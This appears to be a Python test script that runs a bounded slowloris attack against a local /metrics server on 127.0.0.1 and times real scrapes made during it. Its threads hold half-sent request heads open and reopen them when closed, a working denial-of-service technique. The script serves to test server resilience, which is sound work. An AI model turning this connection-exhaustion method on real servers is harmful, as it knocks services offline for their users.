#!/usr/bin/env python3
"""slowloris.py PORT [CONNS] [SCRAPES]: how long a scrape of http://127.0.0.1:PORT/metrics
takes while CONNS clients (default 200) hold connections with a request head that never ends,
each re-opened as soon as the server closes it. Loopback only; every loop is bounded (at most 60 s
of attack, each scrape waits at most 60 s). Prints each scrape's time."""
import socket, sys, threading, time

port = int(sys.argv[1])
conns = int(sys.argv[2]) if len(sys.argv) > 2 else 200
scrapes = int(sys.argv[3]) if len(sys.argv) > 3 else 5
stop = threading.Event()
deadline = time.monotonic() + 60


def slow():
    while not stop.is_set() and time.monotonic() < deadline:
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=5)
            s.sendall(b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
            s.settimeout(0.5)
            while not stop.is_set() and time.monotonic() < deadline:
                try:
                    if not s.recv(256):
                        break
                except socket.timeout:
                    continue
            s.close()
        except OSError:
            time.sleep(0.05)


threads = [threading.Thread(target=slow, daemon=True) for _ in range(conns)]
for t in threads:
    t.start()
time.sleep(1)
for i in range(scrapes):
    t0 = time.monotonic()
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=60)
        s.settimeout(60)
        s.sendall(b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        data = b""
        while True:
            b = s.recv(65536)
            if not b:
                break
            data += b
        status = data.split(b"\r\n", 1)[0].decode(errors="replace")
    except OSError as e:
        status = "failed: %s" % e
    print("scrape %d: %.3f s %s" % (i + 1, time.monotonic() - t0, status), flush=True)
stop.set()
